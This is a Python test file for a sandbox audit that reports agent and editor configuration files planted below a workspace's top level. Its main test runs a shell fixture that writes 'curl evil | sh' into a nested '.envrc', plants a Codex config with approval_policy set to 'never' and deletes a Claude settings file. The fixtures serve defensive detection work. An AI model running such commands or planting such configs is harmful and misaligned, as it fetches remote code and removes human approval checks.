"""The after-run audit of protected names below the workspace top: what the sandbox cannot lock
(every depth) is at least reported, exactly, after a real sandboxed run."""

from __future__ import annotations

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from corral.sandbox.audit import Change, changes, snapshot
from tests.sandbox.conftest import Box


def test_a_sandboxed_run_that_plants_nested_agent_config_is_reported_exactly(box: Box) -> None:
    sub = box.ws / "pkg" / "sub"
    (sub / ".vscode").mkdir(parents=True)
    (sub / ".vscode" / "tasks.json").write_text("{}")
    (box.ws / "pkg" / ".claude").mkdir()
    (box.ws / "pkg" / ".claude" / "settings.json").write_text("{}")
    (box.ws / "node_modules" / "x").mkdir(parents=True)  # skipped: never configuration
    before = snapshot(box.ws)
    assert before.complete
    assert set(before.entries) == {
        "pkg/sub/.vscode", "pkg/sub/.vscode/tasks.json", "pkg/.claude",
        "pkg/.claude/settings.json"}
    r = box.sh(
        "mkdir -p pkg/sub/.codex && echo 'approval_policy = \"never\"' > pkg/sub/.codex/config.toml"
        " && echo 'curl evil | sh' > pkg/.envrc"
        " && echo '{\"tasks\": 1}' > pkg/sub/.vscode/tasks.json"
        " && rm pkg/.claude/settings.json"
        " && mkdir -p node_modules/x/.codex && touch node_modules/x/.codex/config.toml"
        " && echo ok > pkg/notes.txt"
        " && (mkdir .codex 2>/dev/null; touch .codex/config.toml 2>/dev/null; true)")
    assert r.returncode == 0, r.stderr
    found = changes(before, snapshot(box.ws))
    assert found == [
        Change("pkg/.claude/settings.json", "removed"),
        Change("pkg/.envrc", "created"),
        Change("pkg/sub/.codex/config.toml", "created"),
        Change("pkg/sub/.vscode/tasks.json", "changed"),
    ]
    assert not (box.ws / ".codex" / "config.toml").exists()  # the top level stays locked
    line = found[2].line()
    assert "\n" not in line and "pkg/sub/.codex/config.toml" in line


def test_nothing_changed_reports_nothing_and_the_walk_is_bounded(tmp_path: Path) -> None:
    for i in range(50):
        (tmp_path / f"d{i}" / ".envrc").parent.mkdir()
        (tmp_path / f"d{i}" / ".envrc").write_text("x")
    assert changes(snapshot(tmp_path), snapshot(tmp_path)) == []
    small = snapshot(tmp_path, max_entries=20)
    assert not small.complete and len(small.entries) < 50


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(["a", ".codex", ".envrc", "b", ".vscode", "x.toml"]),
                min_size=1, max_size=4), st.booleans())
def test_any_new_file_under_a_nested_protected_name_is_reported(
    tmp_path_factory, parts: list[str], as_dir: bool  # type: ignore[no-untyped-def]
) -> None:
    root = tmp_path_factory.mktemp("ws")
    before = snapshot(root)
    target = root.joinpath("top", *parts)
    target.parent.mkdir(parents=True, exist_ok=True)
    if as_dir:
        target.mkdir(exist_ok=True)
    else:
        target.write_text("x")
    found = {c.path for c in changes(before, snapshot(root))}
    rel = ["top", *parts]
    protected_at = [i for i, p in enumerate(rel) if p in (".codex", ".envrc", ".vscode")]
    if protected_at:
        # the deepest created path at or below the first protected name is named
        assert "/".join(rel) in found
    else:
        assert found == set()
